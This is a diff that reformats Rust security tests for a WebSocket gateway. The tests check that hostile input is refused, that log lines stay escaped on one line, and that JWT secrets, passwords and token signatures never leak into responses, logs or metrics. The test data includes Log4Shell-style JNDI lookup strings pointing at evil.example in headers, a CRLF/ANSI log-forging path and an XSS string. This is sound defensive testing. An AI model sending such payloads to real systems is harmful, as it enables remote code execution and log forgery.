@@ -21,19 +21,31 @@ async fn r06_a_strangers_words_stay_on_one_line_each_and_escaped() {
         "<script>alert(1)</script>",
     ];
 
-    let mut mallory = picket.caller("198.51.100.7").header("User-Agent", "${jndi:ldap://evil.example/ua}").comes_in().await;
+    let mut mallory =
+        picket.caller("198.51.100.7").header("User-Agent", "${jndi:ldap://evil.example/ua}").comes_in().await;
     for word in words {
         mallory.sends(json!({ "type": word })).await;
         mallory.is_refused("unknown_event").await;
-        picket.caller("198.51.100.8").bearing(&Token::of(word).with("aud", "billing").signed()).connects().await.refused_with(401, "token_invalid");
+        picket
+            .caller("198.51.100.8")
+            .bearing(&Token::of(word).with("aud", "billing").signed())
+            .connects()
+            .await
+            .refused_with(401, "token_invalid");
     }
     picket.caller("198.51.100.9").path("/elsewhere%0d%0aforged%1b[31m").connects().await.refused();
-    picket.caller("198.51.100.9").origin("https://evil.example/${jndi:ldap://evil.example/o}").connects().await.refused();
+    picket
+        .caller("198.51.100.9")
+        .origin("https://evil.example/${jndi:ldap://evil.example/o}")
+        .connects()
+        .await
+        .refused();
     picket.admin().audited("eventType=UNAUTHORIZED_EVENT", words.len()).await;
 
     for line in picket.log() {
         assert!(!line.chars().any(char::is_control), "a raw control character in the log: {line:?}");
-        let parsed: Value = serde_json::from_str(&line).unwrap_or_else(|error| panic!("no JSON line ({error}): {line:?}"));
+        let parsed: Value =
+            serde_json::from_str(&line).unwrap_or_else(|error| panic!("no JSON line ({error}): {line:?}"));
         let message = parsed.get("fields").unwrap_or(&parsed)["message"].as_str().unwrap_or_default();
         assert_ne!(message, "forged", "a forged line: {line:?}");
     }
@@ -64,7 +76,8 @@ async fn r15_no_secret_is_in_any_answer_or_log() {
     let upstream = Upstream::echo().await;
     let mut application = issuer();
     application["secret"] = json!(SECRET);
-    let picket = Picket::guarding(&upstream).issuer(application).environment("SOCKET_ADMIN_PASSWORD", PASSWORD).start().await;
+    let picket =
+        Picket::guarding(&upstream).issuer(application).environment("SOCKET_ADMIN_PASSWORD", PASSWORD).start().await;
     let admin = picket.admin_with("warden", PASSWORD);
     let token = Token::of("alice").signed_with(SECRET.as_bytes());
     let signature = token.rsplit('.').next().unwrap();
@@ -74,11 +87,22 @@ async fn r15_no_secret_is_in_any_answer_or_log() {
     alice.is_refused("malformed").await;
     let broken = format!("{token}x");
     let refusal = picket.caller("198.51.100.8").bearing(&broken).connects().await.refused_with(401, "token_invalid");
-    let leaky = picket.caller("198.51.100.9").path(&format!("/ws?access_token={token}")).origin("https://evil.example").connects().await.refused();
+    let leaky = picket
+        .caller("198.51.100.9")
+        .path(&format!("/ws?access_token={token}"))
+        .origin("https://evil.example")
+        .connects()
+        .await
+        .refused();
     admin.audited("eventType=INVALID_ORIGIN", 1).await;
     admin.audited("eventType=VALIDATION_ERROR", 1).await;
 
-    let mut outputs = vec![("a refusal", refusal.body), ("another refusal", leaky.body), ("what it said", picket.everything_it_said()), ("/metrics", picket.ops("/metrics").await.text)];
+    let mut outputs = vec![
+        ("a refusal", refusal.body),
+        ("another refusal", leaky.body),
+        ("what it said", picket.everything_it_said()),
+        ("/metrics", picket.ops("/metrics").await.text),
+    ];
     for path in [
         "/config",
         "/config/history",
@@ -99,7 +123,12 @@ async fn r15_no_secret_is_in_any_answer_or_log() {
     outputs.push(("a 422", admin.changes_policy(json!({ "nonsense": 1 })).await.text));
     outputs.push(("a 401", picket.admin_with("warden", &format!("{PASSWORD}x")).get("/config").await.text));
     for (place, text) in outputs {
-        for (what, secret) in [("the JWT secret", SECRET), ("the password", PASSWORD), ("a token's signature", signature), ("a payload in full", "chat:say\",\"text\":\"canary-payload-5520\"")] {
+        for (what, secret) in [
+            ("the JWT secret", SECRET),
+            ("the password", PASSWORD),
+            ("a token's signature", signature),
+            ("a payload in full", "chat:say\",\"text\":\"canary-payload-5520\""),
+        ] {
             assert!(!text.contains(secret), "{what} is in {place}: {text}");
         }
     }
